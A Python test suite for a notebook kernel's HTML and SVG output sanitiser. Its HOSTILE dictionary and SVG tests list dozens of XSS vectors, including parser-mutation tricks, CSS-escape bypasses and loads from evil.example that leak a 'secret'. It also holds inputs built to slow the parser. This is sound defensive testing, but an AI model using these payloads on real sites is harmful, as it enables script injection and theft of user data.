"""HTML and SVG: hostile vectors against every policy, honest outputs unchanged."""

from __future__ import annotations

import base64
import html
import io
import re
import time
from typing import Any
from xml.etree import ElementTree

import matplotlib
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from page_oracle import faults, framed

from agently_kernel.outputs import FilteredBundle, OutputFilter, OutputPolicy
from agently_kernel.outputs.frames import frame, frame_height
from agently_kernel.outputs.markup import HtmlCleaner
from agently_kernel.outputs.shape import can_be_parsed
from agently_kernel.outputs.svg import NotSafe, clean_svg

matplotlib.use("agg")

HOSTILE = {
    "script": "<script>parent.x=1</script>",
    "script in mixed case": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "script with a stray slash": "<script/x>alert(1)</script>",
    "event handler": "<img src=x onerror=alert(1)>",
    "event handler after a slash": "<img/src=x/onerror=alert(1)>",
    "event handler after a form feed": "<img src=x\x0conerror=alert(1)>",
    "event handler without quotes or blanks": '<p id="a"onmouseover="alert(1)">',
    "event handler on details": "<details open ontoggle=alert(1)>x",
    "autofocus": "<input autofocus onfocus=alert(1)>",
    "svg onload": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "svg use of another document": "<svg><use href='//evil.example/x.svg#a'/></svg>",
    "svg use of data": "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'/></svg>",
    "foreign object": "<svg><foreignObject><iframe srcdoc='<script>1</script>'></iframe></foreignObject></svg>",
    "math link": "<math><maction xlink:href='javascript:alert(1)'>x</maction></math>",
    "iframe srcdoc": "<iframe srcdoc='&lt;script&gt;parent.x=1&lt;/script&gt;'></iframe>",
    "iframe that undoes itself": "<iframe sandbox='allow-scripts allow-same-origin' srcdoc='<script>1</script>'>",
    "javascript link": "<a href='javascript:alert(1)'>x</a>",
    "javascript link with a tab": "<a href='java\tscript:alert(1)'>x</a>",
    "javascript link with a control": "<a href='\x01javascript:alert(1)'>x</a>",
    "javascript link in entities": "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "javascript link with a nul": "<a href='java\0script:alert(1)'>x</a>",
    "vbscript link": "<a href='VBScript:msgbox(1)'>x</a>",
    "data link": "<a href='data:text/html,<script>1</script>'>x</a>",
    "data image that is a page": "<img src='data:text/html,<script>1</script>'>",
    "link into the server": "<a href='/logout'>x</a><img src='/api/shutdown'>",
    "link that the page resolves": "<img src='logout'><a href='logout'>x</a><img src='x?a.png'><img src='./api.png/'>",
    "link out of the folder": "<img src='../../api/contents'>",
    "protocol-relative image": "<img src='//evil.example/?secret'>",
    "remote image": "<img src='https://evil.example/?secret'>",
    "image set": "<img srcset='https://evil.example/x 1x'>",
    "remote video poster": "<video poster='https://evil.example/x'></video>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "base": "<base href='https://evil.example/'><a href=x>x</a>",
    "link": "<link rel=stylesheet href='https://evil.example/x.css'>",
    "form": "<form action='/api/terminals' method=post><button>Go</button></form>",
    "object": "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "position fixed": "<div style='position:fixed;inset:0;background:red'>pay</div>",
    "position fixed with an escape": "<div style='positio\\6e:fixed'>x</div>",
    "position fixed with a comment": "<div style='position/**/:/**/fixed'>x</div>",
    "css url": "<div style='background:url(https://evil.example/x)'>x</div>",
    "css url with an escape": "<div style='background:u\\72l(//evil.example)'>x</div>",
    "css image-set": "<div style=\"background:image-set('https://evil.example' 1x)\">x</div>",
    "css expression": "<div style='width:expression(alert(1))'>x</div>",
    "style sheet over the page": "<style>body{position:fixed;display:none}</style>x",
    "style sheet import": "<style>@import url(https://evil.example/x.css);</style>x",
    "style sheet that ends early": "<style>a{color:red}</style ><img src=x onerror=alert(1)>",
    "style sheet with markup": "<style><!--</style><script>alert(1)</script>--></style>",
    "style sheet that nests": "<style>.a{& ~ body{color:red} :is(body){color:red}}</style>x",
    "style sheet with host": "<style>:host,:root,html,body > *{color:red}</style>x",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation by math style": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "mutation by svg style": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "mutation by textarea": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "comment that ends early": "<!--><script>alert(1)</script>-->",
    "cdata": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "template": "<template><script>alert(1)</script></template>",
    "unclosed tag": "<img src=x onerror=alert(1) //",
    "unclosed attribute": '<p title="<script>alert(1)</script>',
    "dialogue class of the page": "<div class='jp-Dialog'>Allow?</div>",
    "id of the page": "<div id='jupyter-config-data'>{}</div>",
    "meta in a table": "<table><meta http-equiv=refresh content=0><tr><td onclick=alert(1)>x</table>",
}


def bundle(data: dict[str, Any], policy: OutputPolicy = OutputPolicy.FRAMED, **options: bool) -> FilteredBundle:
    return OutputFilter(policy, **options).bundle(data, {}, kind="display_data", cell="cell")


@pytest.mark.parametrize("vector", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("policy", [OutputPolicy.FRAMED, OutputPolicy.STATIC], ids=lambda p: p.value)
@pytest.mark.parametrize("network", [False, True], ids=["no network", "network"])
def test_hostile_html_reaches_the_page_only_framed_or_cleaned(vector: str, policy: OutputPolicy, network: bool) -> None:
    shown = bundle({"text/html": vector}, policy, network_allowed=network).data["text/html"]
    documents = framed(shown)
    if documents is None:
        found = [f for f in faults(shown) if not (network and "=https:" in f)]
        assert found == []
    else:
        assert policy is OutputPolicy.FRAMED
        lone = re.fullmatch(r"<iframe srcdoc='([^']*)'></iframe>", vector)  # its page gets our frame instead
        assert documents[1].endswith(html.unescape(lone[1]) if lone else vector)
        assert "allow-same-origin" not in shown


@pytest.mark.parametrize(
    "vector",
    ["script", "event handler", "svg onload", "iframe srcdoc", "javascript link", "meta refresh", "form", "object"],
)
def test_active_html_is_framed_and_static_keeps_its_text(vector: str) -> None:
    assert framed(bundle({"text/html": HOSTILE[vector] + "<p>hello</p>"}).data["text/html"]) is not None
    static = bundle({"text/html": "<p>hello</p>" + HOSTILE[vector]}, OutputPolicy.STATIC).data["text/html"]
    assert "hello" in static


def test_frame_holds_the_guest_in_an_inner_document_under_a_policy_that_loads_nothing() -> None:
    documents = framed(frame("<script>1</script>"))
    assert documents is not None
    guard = {"require-trusted-types-for": "'script'", "trusted-types": "default"}  # of the guest's own document
    for document, more in zip(documents, ({}, guard), strict=True):
        policy = re.match(r'<!DOCTYPE html><meta http-equiv="Content-Security-Policy" content="([^"]*)">', document)
        assert policy is not None
        directives = dict(d.strip().split(" ", 1) for d in policy[1].split(";"))
        assert directives == {
            "default-src": "'none'",
            "script-src": "'unsafe-inline' 'unsafe-eval' data: blob:",
            "style-src": "'unsafe-inline' data:",
            "img-src": "data: blob:",
            "font-src": "data:",
            "media-src": "data: blob:",
            "connect-src": "data: blob:",
            "worker-src": "blob:",
            "child-src": "'none'",
            "frame-src": "'none'",
            "object-src": "'none'",
            "base-uri": "'none'",
            "form-action": "'none'",
            **more,
        }


def test_frame_with_network_reaches_https_only() -> None:
    shown = bundle({"text/html": "<script>1</script>"}, network_allowed=True).data["text/html"]
    documents = framed(shown)
    assert documents is not None
    assert "img-src data: blob: https: wss:;" in documents[0]
    assert "http:" not in documents[0].replace("http-equiv", "").split("<script>")[0]


def test_frame_is_found_by_its_first_attribute_and_survives_a_second_filter() -> None:
    shown = bundle({"text/html": "<script>1</script>'\"&amp;<b>"}).data["text/html"]
    assert re.match(r"\s*<iframe\b[^>]*\bsandbox\b", shown)
    assert bundle({"text/html": shown}).data["text/html"] == shown


@pytest.mark.parametrize(
    "change", [("allow-scripts", "allow-scripts allow-same-origin"), ("none", "self"), ("border: 0", "inset: 0")]
)
def test_frame_that_only_resembles_ours_is_framed_again(change: tuple[str, str]) -> None:
    forged = frame("<script>1</script>").replace(*change)
    shown = bundle({"text/html": forged}).data["text/html"]
    documents = framed(shown)
    assert shown != forged
    (page,) = re.findall('srcdoc="([^"]*)"', forged)
    assert documents is not None and documents[1].endswith(html.unescape(page))


@pytest.mark.parametrize(
    "source",
    [
        '<iframe srcdoc="{}"></iframe>',
        "<iframe width='100%' height='400' srcdoc='{}' frameborder=0 allowfullscreen></iframe>\n",
        '<div style="width:100%;"><div style="position:relative;height:0;"><span style="color:#565656">Make this '
        'Notebook Trusted to load map</span><iframe srcdoc="{}" style="position:absolute" allowfullscreen></iframe>'
        "</div></div>",
    ],
)
def test_a_page_in_a_frame_of_its_own_gets_ours_instead(source: str) -> None:
    page = "<!DOCTYPE html><html><body><div id=\"m\">It's & <b>big</b></div><script>m.x = '1'</script></body></html>"
    documents = framed(frame(source.format(html.escape(page))))
    assert documents is not None and documents[1].endswith("</script>" + page)
    two = source.format(html.escape(page)) + "<script>1</script>"
    documents = framed(frame(two))
    assert documents is not None and documents[1].endswith("</script>" + two)


@pytest.mark.parametrize(
    ("markup", "height"),
    [
        ("<div style='height:500px'>", 530),
        ('<svg height="300">', 330),
        ("<p>", 430),
        ("height: 9000px", 430),
        ("height:50px", 120),
    ],
)
def test_frame_height_follows_the_sizes_named(markup: str, height: int) -> None:
    assert frame_height(markup) == height


PIECES = st.sampled_from(
    [*HOSTILE.values(), "<", ">", "'", '"', "<!--", "-->", "</style>", "<table>", "<svg>", "</svg>", "x ", "<p ", "="]
)


@given(st.lists(PIECES | st.text(alphabet="<>&;='\"/ abon:x\t\n\0\\{}", max_size=12), max_size=8).map("".join))
@settings(max_examples=150, deadline=None)
def test_no_composition_of_vectors_runs_in_the_page(markup: str) -> None:
    static = bundle({"text/html": markup}, OutputPolicy.STATIC).data["text/html"]
    assert faults(static) == []
    shown = bundle({"text/html": markup}).data["text/html"]
    assert framed(shown) is not None or faults(shown) == []


@given(
    st.lists(
        st.sampled_from(["<b>", "</b>", "<table><tr><td>", "<p>", "x", "&amp;", "<a href='#x'>", "<p id='i'>", "<br>"]),
        max_size=12,
    )
)
@settings(max_examples=100, deadline=None)
def test_cleaning_twice_is_cleaning_once(pieces: list[str]) -> None:
    cleaner = HtmlCleaner()
    once = cleaner.clean("".join(pieces))
    assert once is not None
    again = cleaner.clean(once.markup)
    assert again is not None and again.markup == once.markup


def test_plain_markup_is_unchanged() -> None:
    for markup in ("<i>rich</i>", "<b>v3</b>", "<p>a &amp; b</p>", "<ul><li>1</li></ul>", "<h1>x</h1><hr><pre>y</pre>"):
        shown = bundle({"text/html": markup})
        assert shown.data == {"text/html": markup}
        assert shown.withheld == ()


def test_pandas_table_keeps_its_markup_and_its_style() -> None:
    frame_ = pd.DataFrame({"a": [1, 2], "b": ["x", "<script>"]})
    source = frame_._repr_html_()  # type: ignore[operator]
    shown = bundle({"text/html": source}).data["text/html"]
    assert framed(shown) is None
    assert '<table border="1" class="dataframe">' in shown
    assert "<td>&lt;script&gt;</td>" in shown
    scope = re.search(r'id="(agently-scope-[0-9a-f]{12})"', shown)
    assert scope is not None
    assert f"#{scope[1]} .dataframe tbody tr th:only-of-type {{vertical-align: middle}}" in shown
    assert '<tr style="text-align: right">' in shown


def test_styler_keeps_colours_bars_and_ids() -> None:
    table = pd.DataFrame({"a": [1.0, 2.0]}).style.bar(color="#d65f5f").set_table_attributes('class="mine"')
    source = table.to_html(uuid="t")
    shown = bundle({"text/html": source}).data["text/html"]
    assert framed(shown) is None
    assert 'id="agently-out-T_t_row1_col0"' in shown
    assert re.search(
        r"#agently-scope-\w+ #agently-out-T_t_row1_col0 \{width: 10em; background: linear-gradient\(90deg, #d65f5f 1",
        shown,
    )
    assert "mine" in shown


def test_large_table_is_cleaned_without_parsing_its_rows() -> None:
    rows = "<tr>\n      <th>0</th>\n      <td>&lt;b&gt; 0.621070</td>\n    </tr>\n" * 20_000
    source = f'<div>\n<table border="1" class="dataframe">\n  <tbody>{rows}</tbody>\n</table>\n</div>'
    started = time.process_time()
    shown = bundle({"text/html": source}).data["text/html"]
    assert time.process_time() - started < 1.5
    assert rows in shown
    assert faults(shown) == []


@pytest.mark.parametrize(
    "place",
    ["<tbody>", "<svg><text><tbody>", "<p title='<tbody>", "<textarea><tbody>", "<title><tbody>", "<!-- <tbody>"],
)
@pytest.mark.parametrize("attack", ["\" onclick=alert(1) x='' ", "</td></tr></table><b>", "<tr></td></th></tr></tr>"])
def test_rows_set_aside_cannot_leave_their_table(place: str, attack: str) -> None:
    filler = "<tr><td>x</td></tr>" * 6000
    source = f"<div><table>{place}{attack}{filler}{attack}</tbody></table></div>"
    cleaned = HtmlCleaner().clean(source)
    assert cleaned is None or faults(cleaned.markup) == []


@pytest.mark.parametrize(
    "source",
    [
        "& " * 400_000,
        "©" * 400_000,
        "<p " + " ".join(f"a{i}=1" for i in range(100_000)) + ">",
        "<a b='" * 100_000,
        "<div>" * 80_000,
        "<div>" * 300 + "<p>" * 80_000,
        "<p>" + "".join(f"<b id={i}>" for i in range(300)) + "<p>x" * 3000,
        "".join(f"<i id={i}>" for i in range(20)) + "<p>x" * 30_000,
    ],
    ids=["ampersands", "signs", "attributes", "quotes", "depth", "depth and breadth", "formats", "many formats"],
)
def test_markup_made_to_be_slow_is_not_cleaned(source: str) -> None:
    assert can_be_parsed(source) is False
    started = time.process_time()
    assert framed(bundle({"text/html": source}).data["text/html"]) is not None
    static = bundle({"text/html": source}, OutputPolicy.STATIC).data["text/html"]
    assert static == "<p>[withheld] An HTML output is too large and irregular to be cleaned.</p>"
    assert time.process_time() - started < 3


@pytest.mark.parametrize(
    "pattern", ["<style>", "<style>/*", "<style>{", "<!--", "/*", "<style>@media (a)", "<div>", " on"]
)
def test_cleaning_takes_linear_time(pattern: str) -> None:
    started = time.process_time()
    for policy in (OutputPolicy.FRAMED, OutputPolicy.STATIC):
        bundle({"text/html": pattern * (60_000 // len(pattern)) + "</style>"}, policy)
        bundle({"text/html": pattern * (400_000 // len(pattern)) + "</style>"}, OutputPolicy.FRAMED)
    assert time.process_time() - started < 4


def test_remote_content_is_dropped_with_a_line_or_kept_with_network() -> None:
    source = '<p>plot</p><img src="https://images.example/x.png">'
    offline = bundle({"text/html": source})
    assert offline.data == {"text/html": "<p>plot</p><img>"}
    assert [w.kind for w in offline.withheld] == [""]
    assert offline.notice.startswith("[withheld] The output refers to images or media of other hosts")
    assert bundle({"text/html": source}, network_allowed=True).data == {"text/html": source}


def test_data_media_and_relative_files_stay() -> None:
    source = '<img src="data:image/png;base64,iVBORw0KGgo="><a href="output/x.csv" rel="noopener noreferrer">x</a>'
    source += '<img src="output/plot 1.png">'
    assert bundle({"text/html": source}).data == {"text/html": source}


def test_animation_with_scripts_is_framed_whole() -> None:
    source = "<script>class Animation{}</script>\n<div class='anim'><input oninput='go()' type='range'></div>"
    documents = framed(bundle({"text/html": source}).data["text/html"])
    assert documents is not None and documents[1].endswith(source)


def test_trusted_passes_everything_on() -> None:
    source = "<script>1</script>"
    shown = bundle({"text/html": source, "application/javascript": "1", "application/x-mine": 1}, OutputPolicy.TRUSTED)
    assert shown.data == {"text/html": source, "application/javascript": "1", "application/x-mine": 1}


# -- SVG ---------------------------------------------------------------------------------------------------------------
SVG = "http://www.w3.org/2000/svg"


def _drawing() -> str:
    from matplotlib.figure import Figure

    figure = Figure()
    axes = figure.subplots()
    axes.plot([1, 2, 3])
    axes.scatter([1, 2], [2, 1])
    axes.set_title("a < b & c")
    buffer = io.StringIO()
    figure.savefig(buffer, format="svg")
    return buffer.getvalue()


def test_matplotlib_svg_draws_the_same() -> None:
    source = _drawing()
    shown = bundle({"image/svg+xml": source}).data["image/svg+xml"]

    def shapes(text: str) -> list[tuple[str, tuple[tuple[str, str], ...]]]:
        found = []
        for element in ElementTree.fromstring(text).iter():
            if not element.tag.startswith(f"{{{SVG}}}"):
                continue
            attributes = {k: v.replace("\n", " ") for k, v in element.attrib.items() if k != "id" and k != "type"}
            found.append((element.tag, tuple(sorted(attributes.items()))))
        return [f for f in found if not f[0].endswith("metadata")]

    assert shapes(shown) == shapes(source)
    assert "stroke-linejoin: round" in shown


@pytest.mark.parametrize(
    "body",
    [
        "<script>alert(1)</script>",
        "<g onload='alert(1)'/>",
        "<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>x</p></foreignObject>",
        "<animate attributeName='href' to='javascript:alert(1)'/>",
        "<set attributeName='onmouseover' to='alert(1)'/>",
    ],
)
def test_active_svg_is_framed_or_cleaned(body: str) -> None:
    source = f"<svg xmlns='{SVG}'>{body}<text>still</text></svg>"
    with pytest.raises(NotSafe):
        clean_svg(source)
    shown = bundle({"image/svg+xml": source})
    assert "image/svg+xml" not in shown.data
    documents = framed(shown.data["text/html"])
    assert documents is not None and documents[1].endswith(source)
    static = bundle({"image/svg+xml": source}, OutputPolicy.STATIC)
    assert faults(static.data["text/html"]) == []
    assert "still" in static.data["text/html"]


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("<a href='javascript:alert(1)'><text>x</text></a>", "<a><text>x</text></a>"),
        ("<image href='https://evil.example/x'/>", "<image></image>"),
        ("<image href='data:image/svg+xml;base64,AA'/>", "<image></image>"),
        ("<use href='other.svg#a'/>", "<use></use>"),
        ("<rect fill='url(https://evil.example/x)'/>", "<rect></rect>"),
        ("<rect fill='u\\72l(//evil.example)'/>", "<rect></rect>"),
        ("<rect style='fill:url(//evil.example);stroke:red'/>", '<rect style="stroke: red"></rect>'),
        ("<rect style='position:fixed'/>", "<rect></rect>"),
        ("<style>@import '//evil.example';</style>", "<style></style>"),
        (
            "<rect clip-path='url(#a)' transform='rotate(3) scale(2)'/>",
            '<rect clip-path="url(#a)" transform="rotate(3) scale(2)"></rect>',
        ),
        ("<h:iframe xmlns:h='http://www.w3.org/1999/xhtml' src='x'/>", None),
        ("<unknown><text>x</text></unknown>", ""),
    ],
)
def test_svg_keeps_nothing_that_loads(body: str, expected: str | None) -> None:
    source = f"<svg xmlns='{SVG}'>{body}</svg>"
    if expected is None:
        with pytest.raises(NotSafe):
            clean_svg(source)
        return
    cleaned = clean_svg(source)
    assert re.sub(r"^<svg [^>]*>|</svg>$", "", cleaned) == expected
    ElementTree.fromstring(cleaned)


@pytest.mark.parametrize(
    "source",
    [
        "<!DOCTYPE svg [<!ENTITY a 'x'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&a;</text></svg>",
        "<svg><text>unclosed</svg>",
        "<html><body/></html>",
        "<svg>" + "<g>" * 300 + "</g>" * 300 + "</svg>",
        "not xml",
    ],
)
def test_svg_that_is_no_plain_drawing_is_refused(source: str) -> None:
    with pytest.raises(NotSafe):
        clean_svg(source)


def test_svg_text_is_escaped_and_cleaning_twice_parses() -> None:
    cleaned = clean_svg(f"<svg xmlns='{SVG}'><text title='a\"b&amp;\n'>&lt;script&gt;</text></svg>")
    assert "&lt;script&gt;" in cleaned
    assert ElementTree.fromstring(clean_svg(cleaned)).find(f"{{{SVG}}}text").text == "<script>"  # type: ignore[union-attr]


def test_image_in_html_by_base64_round_trip() -> None:
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"0" * 32).decode()
    assert bundle({"image/png": png}).data == {"image/png": png}


@pytest.mark.parametrize(
    "source",
    [
        '<svg height="100" width="100">\n    <circle cx="50" cy="50" r="40" fill="red"></circle>\n</svg>',
        f'<svg xmlns="{SVG}" viewBox="0 0 9 9"><g transform="rotate(3)"><path d="M0 0L9 9"></path></g></svg>',
        '<svg id="mine" width="2"><text x="1">words &amp; more</text></svg>',
        f'<svg xmlns="{SVG}" xmlns:xlink="http://www.w3.org/1999/xlink" width="2">'
        '<defs><path id="p" d="M0 0"></path></defs><use xlink:href="#p"></use></svg>',
    ],
)
def test_a_drawing_that_is_still_already_comes_out_as_it_was(source: str) -> None:
    assert clean_svg(source) == source


def test_the_root_gets_an_id_when_a_style_sheet_needs_it() -> None:
    cleaned = clean_svg(f'<svg xmlns="{SVG}" id="theirs"><style>path {{ fill: red }}</style><path d="M0 0"/></svg>')
    name = re.search(r'id="(agently-svg-[0-9a-f]+)"', cleaned)
    assert name is not None and f"#{name[1]}" in cleaned and "theirs" not in cleaned
    assert clean_svg("<svg xmlns='http://example.org/not-a-drawing'><path/></svg>") == ""
